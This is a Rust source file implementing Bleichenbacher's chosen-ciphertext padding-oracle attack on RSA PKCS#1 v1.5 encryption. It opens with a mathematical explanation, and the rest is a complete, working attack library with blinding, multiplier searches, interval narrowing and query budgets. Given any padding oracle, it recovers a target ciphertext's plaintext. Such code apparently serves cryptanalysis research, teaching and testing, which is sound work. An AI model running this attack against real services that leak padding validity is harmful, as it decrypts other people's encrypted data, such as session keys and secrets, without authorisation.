// Bleichenbacher's adaptive chosen-ciphertext attack on PKCS#1 v1.5
// encryption padding.
//
// Let k be the byte length of n and B = 2^(8(k - 2)). A block is conforming
// when it starts with 00 02, which means its integer value m satisfies
//
//                          2B <= m <= 3B - 1.
//
// RSA is multiplicatively malleable: (c * s^e) mod n decrypts to (m * s) mod n.
// So every time the oracle accepts c * s^e, we learn that for some integer r
//
//                     2B <= m * s - r * n <= 3B - 1,
//
// i.e. m lies in [(2B + rn) / s, (3B - 1 + rn) / s]. Intersecting these
// ranges with what we already know about m shrinks the candidate set roughly
// by half each time, until only m itself is left.
//
// The search for the next multiplier s depends on the state of the candidate
// set. While there are several intervals we walk s upwards one at a time.
// Once there is a single interval [a, b], we can choose s so that m * s lands
// in the conforming range with high probability: for increasing
//
//                       r >= 2 * (b * s - 2B) / n
//
// only multipliers in [(2B + rn) / b, (3B - 1 + rn) / a] can work, and that
// window is usually just one or two values wide.
mod interval;

pub use interval::{Interval, IntervalSet};

use crate::{
    ceil_div, ceil_div_diff, floor_div_diff, i2osp, modinv, modpow, pkcs1_unpad, Error,
    PaddingOracle, PublicKey, Result,
};

use log::{debug, info, warn};
use num_bigint::{BigUint, RandBigInt};
use num_traits::One;
use rand::{rngs::StdRng, SeedableRng};

use std::time::{Duration, Instant};

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BleichenbacherConfig {
    /// Oracle queries allowed before giving up.
    pub max_queries: u64,
    /// Wall-clock time allowed before giving up, checked between queries.
    pub time_limit: Option<Duration>,
    /// Seed for the random blinding multipliers tried when the target
    /// ciphertext is not itself conforming.
    pub blinding_seed: u64,
}

impl Default for BleichenbacherConfig {
    fn default() -> Self {
        Self {
            max_queries: 5_000_000,
            time_limit: None,
            blinding_seed: 0,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BleichenbacherOutcome {
    /// The recovered padded plaintext as an integer.
    pub representative: BigUint,
    /// The recovered padded plaintext, `k` bytes long.
    pub block: Vec<u8>,
    pub queries: u64,
    pub rounds: u64,
    pub elapsed: Duration,
}

impl BleichenbacherOutcome {
    /// The message inside the recovered block.
    pub fn message(&self) -> Result<Vec<u8>> {
        pkcs1_unpad(&self.block)
    }
}

/// Recover the plaintext of `ciphertext` using only `oracle`.
pub fn bleichenbacher_attack(
    ciphertext: &BigUint,
    public: &PublicKey,
    oracle: &impl PaddingOracle,
    config: &BleichenbacherConfig,
) -> Result<BleichenbacherOutcome> {
    BleichenbacherAttack::new(public, oracle, config.clone()).run(ciphertext)
}

/// Narrow `intervals` using a multiplier `s` the oracle accepted.
///
/// Every m in the result lies in the input set and has m * s mod n conforming.
pub fn narrow_intervals(
    intervals: &IntervalSet,
    s: &BigUint,
    n: &BigUint,
    two_b: &BigUint,
    three_b: &BigUint,
) -> IntervalSet {
    let three_b_minus_one = three_b - 1u32;
    let mut ranges = Vec::new();
    for interval in intervals.iter() {
        let r_lo = ceil_div_diff(&(&interval.lo * s), &three_b_minus_one, n);
        let r_hi = match floor_div_diff(&(&interval.hi * s), two_b, n) {
            Some(r_hi) => r_hi,
            None => continue,
        };

        let mut r = r_lo;
        while r <= r_hi {
            let rn = &r * n;
            let lo = ceil_div(&(two_b + &rn), s).max(interval.lo.clone());
            let hi = ((&three_b_minus_one + &rn) / s).min(interval.hi.clone());
            ranges.push(Interval::new(lo, hi));
            r += 1u32;
        }
    }
    IntervalSet::from_ranges(ranges)
}

/// The attack's search state: the blinded target, the current candidate set
/// and the cost spent so far.
pub struct BleichenbacherAttack<'a, O: PaddingOracle> {
    public: &'a PublicKey,
    oracle: &'a O,
    config: BleichenbacherConfig,
    two_b: BigUint,
    three_b: BigUint,
    c0: BigUint,
    intervals: IntervalSet,
    queries: u64,
    rounds: u64,
    started: Instant,
}

impl<'a, O: PaddingOracle> BleichenbacherAttack<'a, O> {
    pub fn new(public: &'a PublicKey, oracle: &'a O, config: BleichenbacherConfig) -> Self {
        let k = public.byte_len();
        let b = BigUint::one() << (8 * k.saturating_sub(2));
        let two_b = &b * 2u32;
        let three_b = &b * 3u32;
        let intervals = IntervalSet::single(Interval::new(two_b.clone(), &three_b - 1u32));
        Self {
            public,
            oracle,
            config,
            two_b,
            three_b,
            c0: BigUint::default(),
            intervals,
            queries: 0,
            rounds: 0,
            started: Instant::now(),
        }
    }

    pub fn run(self, ciphertext: &BigUint) -> Result<BleichenbacherOutcome> {
        self.run_observed(ciphertext, |_| {})
    }

    /// Run the attack, handing the candidate set to `observe` after every
    /// update.
    pub fn run_observed(
        mut self,
        ciphertext: &BigUint,
        mut observe: impl FnMut(&IntervalSet),
    ) -> Result<BleichenbacherOutcome> {
        let n = self.public.n.clone();
        info!(
            "starting Bleichenbacher attack on a {}-bit modulus",
            self.public.bits()
        );
        self.started = Instant::now();
        self.c0 = ciphertext % &n;

        let s0 = self.blind()?;
        observe(&self.intervals);

        // Step 2a: start at ceil(n / 3B), the bound from the paper. Below it
        // m * s never wraps and is already past 3B. Starting at ceil(n / B)
        // instead would skip multipliers that conform with r = 1.
        let mut s = self.search_linear(ceil_div(&n, &self.three_b))?;
        self.apply(&s);
        observe(&self.intervals);

        while self.intervals.point().is_none() {
            self.rounds += 1;
            let single = self.intervals.single_interval().cloned();
            let accepted = match single {
                Some(interval) => self.search_single_interval(&interval, &s)?,
                None => vec![self.search_linear(&s + 1u32)?],
            };
            for multiplier in accepted {
                self.apply(&multiplier);
                observe(&self.intervals);
                s = multiplier;
            }
            debug!(
                "round {}: {} interval(s), width {}, {} queries",
                self.rounds,
                self.intervals.len(),
                self.intervals.total_width(),
                self.queries
            );
        }

        let blinded = match self.intervals.point() {
            Some(point) => point.clone(),
            None => return Err(self.exhausted()),
        };
        let representative = blinded * modinv(&s0, &n)? % &n;
        let block = i2osp(&representative, self.public.byte_len())?;
        let elapsed = self.started.elapsed();
        info!(
            "recovered plaintext after {} queries in {} rounds ({:?})",
            self.queries, self.rounds, elapsed
        );

        Ok(BleichenbacherOutcome {
            representative,
            block,
            queries: self.queries,
            rounds: self.rounds,
            elapsed,
        })
    }

    /// Find s0 such that c * s0^e is conforming, and make that the target.
    /// A properly padded ciphertext is its own blinding with s0 = 1.
    fn blind(&mut self) -> Result<BigUint> {
        let one = BigUint::one();
        if self.query(&one)? {
            return Ok(one);
        }

        let mut rng = StdRng::seed_from_u64(self.config.blinding_seed);
        let two = BigUint::from(2u32);
        loop {
            let s0 = rng.gen_biguint_range(&two, &self.public.n);
            if self.query(&s0)? {
                debug!("blinded ciphertext with s0 = {:x}", s0);
                let n = &self.public.n;
                self.c0 = &self.c0 * modpow(&s0, &self.public.e, n) % n;
                return Ok(s0);
            }
        }
    }

    /// Ask the oracle about c0 * s^e, enforcing the query and time budget.
    fn query(&mut self, s: &BigUint) -> Result<bool> {
        let out_of_time = self
            .config
            .time_limit
            .is_some_and(|limit| self.started.elapsed() >= limit);
        if self.queries >= self.config.max_queries || out_of_time {
            return Err(self.exhausted());
        }

        self.queries += 1;
        let n = &self.public.n;
        let c = &self.c0 * modpow(s, &self.public.e, n) % n;
        let valid = self.oracle.is_valid_padding(&c);
        self.oracle.check_available()?;
        Ok(valid)
    }

    fn search_linear(&mut self, start: BigUint) -> Result<BigUint> {
        let mut s = start;
        while !self.query(&s)? {
            s += 1u32;
        }
        Ok(s)
    }

    /// Step 2c. Every accepted multiplier in the first productive window is
    /// returned, in increasing order.
    fn search_single_interval(&mut self, interval: &Interval, s: &BigUint) -> Result<Vec<BigUint>> {
        let n = self.public.n.clone();
        let three_b_minus_one = &self.three_b - 1u32;
        let mut r = ceil_div_diff(&(&interval.hi * s * 2u32), &(&self.two_b * 2u32), &n);
        loop {
            let rn = &r * &n;
            let mut candidate = ceil_div(&(&self.two_b + &rn), &interval.hi);
            let last = (&three_b_minus_one + &rn) / &interval.lo;

            let mut accepted = Vec::new();
            while candidate <= last {
                if self.query(&candidate)? {
                    accepted.push(candidate.clone());
                }
                candidate += 1u32;
            }
            if !accepted.is_empty() {
                return Ok(accepted);
            }
            r += 1u32;
        }
    }

    fn apply(&mut self, s: &BigUint) {
        let narrowed = narrow_intervals(
            &self.intervals,
            s,
            &self.public.n,
            &self.two_b,
            &self.three_b,
        );
        if narrowed.is_empty() {
            // Only possible if the oracle answered unfaithfully.
            warn!("multiplier {} is inconsistent with every interval; ignoring it", s);
            return;
        }
        self.intervals = narrowed;
    }

    fn exhausted(&self) -> Error {
        Error::OracleExhausted {
            queries: self.queries,
            rounds: self.rounds,
            intervals: self.intervals.clone(),
        }
    }
}
